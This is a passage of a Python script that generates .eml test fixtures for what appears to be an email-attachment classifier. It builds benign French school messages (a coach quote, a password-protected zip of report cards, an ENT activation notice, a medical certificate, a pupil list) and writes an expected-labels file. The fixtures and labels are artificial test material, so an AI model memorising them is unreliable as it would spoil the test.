        msgid="7e6d5c4b-3a29-4180-8f7e-6d5c4b3a2918@ac-amiens.fr", text=text,
        attachments=[thunderbird_attachment("application/pdf", name, pdf)],
        boundary="------------Mn0Bv2Cx4Za6Sd8Fg0Hj2Kl4")


@case("legit-att-outlook-inline-xlsx", "external-sender")
def _():
    when = (2026, 11, 19, 9, 40, 27)

    def logo(x, y):
        if 4 <= y < 36 and 4 <= x < 36:
            return (0, 92, 169)
        return (255, 255, 255) if (x + y) % 37 else (220, 230, 240)

    png = make_png(120, 40, logo)
    xlsx = make_xlsx([["Devis n° 2026-1187 – sortie en baie de Somme"], [],
                      ["Prestation", "Quantité", "Prix unitaire HT", "Total HT"],
                      ["Autocar 57 places, journée", 2, 690, ("=", "B4*C4", 1380)],
                      ["Kilomètres supplémentaires", 40, 2.1, ("=", "B5*C5", 84)],
                      ["Total HT", None, None, ("=", "D4+D5", 1464)], ["TVA 10 %", None, None, ("=", "D6*0.1", 146.4)],
                      ["Total TTC", None, None, ("=", "D6+D7", 1610.4)]],
                     sheet="Devis", title="Devis 2026-1187", creator="Service commercial", when=(2026, 11, 19, 9, 0, 0),
                     company="Cars Hourdequin")
    paragraphs = ["Bonjour Madame Dupont,", "",
                  "Suite à votre demande, vous trouverez ci-joint notre devis n° 2026-1187 pour la sortie en baie de "
                  "Somme du 21 mai 2027 (deux autocars de 57 places).",
                  "Le devis est valable trois mois.", "", "Bien cordialement,"]
    return outlook_message(
        sender="Cars Hourdequin <devis@cars-hourdequin.fr>", to=MARIE,
        subject=ew("Devis 2026-1187 – sortie baie de Somme"), when=when,
        msgid="PR3P264MB4512E9F8A7B6C5D4E3F2A1B0C9D8@PR3P264MB4512.FRAP264.PROD.OUTLOOK.COM",
        tag="PR3P264MB4512E9F8A7B6C5D4E3F2A1B0C9D8PR3P264MB4512FRAP_", paragraphs=paragraphs,
        signature=["Service commercial – Cars Hourdequin", "Tél. 03 22 00 11 22"],
        related_image=("image001.png@01DB5A7C.3E9F1D20", "image001.png", png),
        attachments=[outlook_attachment("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                        "Devis_2026-1187_sortie_baie_de_Somme.xlsx", xlsx, when)])


# The password of this archive is sent by text message, as the academy recommends: it is not in the
# mail, so no attachment-encrypted-archive, and the members are PDFs, so no
# attachment-archive-program either. The text still speaks of « mot de passe » (without one).
@case("legit-att-zip-password-separate", "-")
def _():
    when = (2026, 11, 20, 11, 5, 40)
    dt = (2026, 11, 20, 10, 58, 0)
    members = []
    for pupil in ("BERNARD_Lina", "CARON_Hugo", "DIALLO_Aminata"):
        surname, first = pupil.split("_")
        members.append((f"Bulletin_T1_3eB_{pupil}.pdf", simple_pdf(
            f"Bulletin T1 {first} {surname}", "Pronote", "Pronote 2026", "Pronote", [
                (b"/F2", 13, "Bulletin du 1er trimestre – 3e B"), f"Élève : {surname} {first}", "",
                "Français ............ 13,5    Mathématiques ....... 14,0", "Histoire-géographie . 12,5    "
                "Anglais ............. 15,0", "", "Appréciation : trimestre sérieux, à poursuivre."],
            when=dt, fid_label="bulletin-" + pupil), dt, 8))
    zipped = make_zip(members, password="Hortillons-3eB-T1")
    paragraphs = ["Monsieur le Principal,", "",
                  "Vous trouverez ci-joint les bulletins du 1er trimestre des élèves de 3e B dont le dossier est suivi "
                  "en commission éducative.",
                  "Comme le recommande la DSI, l'archive est protégée : son mot de passe vous est communiqué "
                  "séparément, par SMS.", "", "Bien cordialement,", "La vie scolaire"]
    att = part(['Content-Type: application/zip; name=Bulletins_T1_3eB.zip',
                "Content-Disposition: attachment; filename=Bulletins_T1_3eB.zip", "Content-Transfer-Encoding: base64"],
               b64(zipped))
    return zimbra_message(
        sender=addr("Vie scolaire – Collège Les Hortillonnages", "vie-scolaire.0801234x@ac-amiens.fr"),
        to=PRINCIPAL, subject=ew("Bulletins T1 – 3e B (archive protégée)"), when=when,
        msgid="1837465920.5561234.1732097140551.JavaMail.zimbra@ac-amiens.fr", text="\n".join(paragraphs),
        html=zimbra_html(paragraphs), attachments=[att], tag="_0f9e8d7c-6b5a-4493-8271-6f5e4d3c2b1a")


@case("legit-att-activez-compte", "-")
def _():
    when = (2026, 11, 23, 8, 0, 0)
    pdf = simple_pdf("Guide de première connexion", "DANE", "LibreOffice 7.6", "Writer", [
        (b"/F2", 14, "Nouvel ENT – guide de première connexion"), "",
        "1. Rendez-vous sur le portail de l'académie, rubrique « ENT ».",
        "2. Choisissez « Personnel de l'Éducation nationale ».",
        "3. Activez votre compte ENT : acceptez la charte d'utilisation, puis renseignez une adresse de secours.",
        "4. Votre espace est prêt : vos classes et vos groupes y sont déjà.", "",
        "Assistance : votre référent numérique d'établissement ou la plateforme d'assistance académique."],
        when=(2026, 11, 20, 16, 0, 0), fid_label="dane-guide-ent")
    paragraphs = ["Mesdames, Messieurs,", "",
                  "Le nouvel ENT des collèges ouvre le 1er décembre. Activez votre compte dès maintenant&nbsp;: la "
                  "procédure prend deux minutes et elle est décrite pas à pas dans le guide joint.",
                  "Une fois votre compte activé, vos classes et vos groupes apparaissent automatiquement.",
                  'Informations complémentaires&nbsp;: <a href="https://www.ac-amiens.fr/ent-colleges">'
                  "www.ac-amiens.fr/ent-colleges</a>", "", "La délégation régionale académique au numérique éducatif"]
    att = part(['Content-Type: application/pdf; name=Guide_premiere_connexion_ENT.pdf',
                "Content-Disposition: attachment; filename=Guide_premiere_connexion_ENT.pdf",
                "Content-Transfer-Encoding: base64"], b64(pdf))
    return zimbra_message(
        sender=addr("DANE – Académie d'Amiens", "dane@ac-amiens.fr"), to=MARIE,
        subject=ew("Nouvel ENT : activez votre compte avant le 1er décembre"), when=when,
        msgid="1990011223.5570001.1732345200001.JavaMail.zimbra@ac-amiens.fr",
        text=html_to_plain(paragraphs), html=zimbra_html(paragraphs), attachments=[att],
        tag="_2c3d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e6f",
        extra_headers=["List-Id: Diffusion DANE <diffusion-dane.ac-amiens.fr>"])


@case("legit-att-iphone-nfd", "external-sender")
def _():
    when = (2026, 11, 24, 7, 51, 3)
    name = unicodedata_nfd("Certificat_médical.jpg")
    jpeg = make_jpeg(40, 56, text_page_level(20261124, 40, 56, margin=3, header_rows=(3, 6)),
                     comment=b"iPhone 13")
    b = "Apple-Mail-6C1E2B7A-90D3-4F58-A2B1-3E5C7D9F0A12"
    text = "Bonjour,\n\nVoici le certificat médical de Léo pour la dispense d'EPS jusqu'au 18 décembre.\n\nKarine Lemoine\n"
    att = part([f"Content-Type: image/jpeg;\n\tname=\"{ew(name, 'Q', 'utf-8', 60)}\";\n\tx-unix-mode=0644",
                f"Content-Disposition: attachment;\n\t{p2231('filename', name)}", "Content-Transfer-Encoding: base64"],
               b64(jpeg))
    return message([
        f'Content-Type: multipart/mixed; boundary="{b}"', "Content-Transfer-Encoding: 7bit",
        "From: Karine Lemoine <karine.lemoine@icloud.com>", "Mime-Version: 1.0 (1.0)", f"Date: {rfc822_date(when)}",
        "Subject: " + ew("Certificat médical de Léo"), "Message-Id: <6C1E2B7A-90D3-4F58-A2B1-3E5C7D9F0A12@icloud.com>",
        "To: " + MARIE, "X-Mailer: iPhone Mail (22B91)"],
        multipart(b, [text_part(text, "utf-8", "quoted-printable"), att]))


@case("legit-att-xls-sans-macros", "-")
def _():
    when = (2026, 11, 24, 13, 48, 16)
    rows = [["Nom", "Prénom", "Date de naissance", "Régime"], ["BERNARD", "Lina", "14/03/2014", "Demi-pensionnaire"],
            ["CARON", "Hugo", "02/09/2013", "Externe"], ["DIALLO", "Aminata", "27/11/2013", "Demi-pensionnaire"],
            ["LEMOINE", "Léo", "05/06/2014", "Demi-pensionnaire"]]
    tree = {"Workbook": xls_workbook_stream("5e A", rows),
            "\x05SummaryInformation": summary_information("Liste 5e A", "SIECLE", "Microsoft Excel",
                                                          (2026, 11, 24, 13, 40, 0))}
    xls = make_cfb(tree, root_clsid=bytes.fromhex("2008020000000000c000000000000046"), mtime=(2026, 11, 24, 13, 40, 0))
    paragraphs = ["Bonjour Marie,", "",
                  "Voici l’export SIECLE de la liste des élèves de 5e A (avec le régime de demi-pension), pour "
                  "préparer la sortie au musée.", "", "Bonne journée,", "Le secrétariat"]
    return outlook_message(
        sender=SECRETARIAT, to=MARIE, subject=ew("Liste des élèves de 5e A (export SIECLE)"), when=when,
        msgid="PR1P264MB1986A0B1C2D3E4F5061728394A5B@PR1P264MB1986.FRAP264.PROD.OUTLOOK.COM",
        tag="PR1P264MB1986A0B1C2D3E4F5061728394A5BPR1P264MB1986FRAP_", paragraphs=paragraphs,
        attachments=[outlook_attachment("application/vnd.ms-excel", "Liste_eleves_5eA_SIECLE.xls", xls, when)])


def unicodedata_nfd(text):
    import unicodedata
    return unicodedata.normalize("NFD", text)


# ----------------------------------------------------------------------------------------------

def main():
    if "--expected" in sys.argv:  # the lines of expected.tsv
        for name, codes, _ in CASES:
            print(f"{name}.eml\tinbox\t{codes}")
        return
    total = 0
    for name, _, build in CASES:
        data = build().encode("utf-8")
        assert b"\r" not in data, name
        with open(os.path.join(HERE, name + ".eml"), "wb") as out:
            out.write(data)
        total += len(data)
        print(f"{name}.eml  {len(data)} bytes")
    print(f"{len(CASES)} files, {total} bytes")


if __name__ == "__main__":
    main()
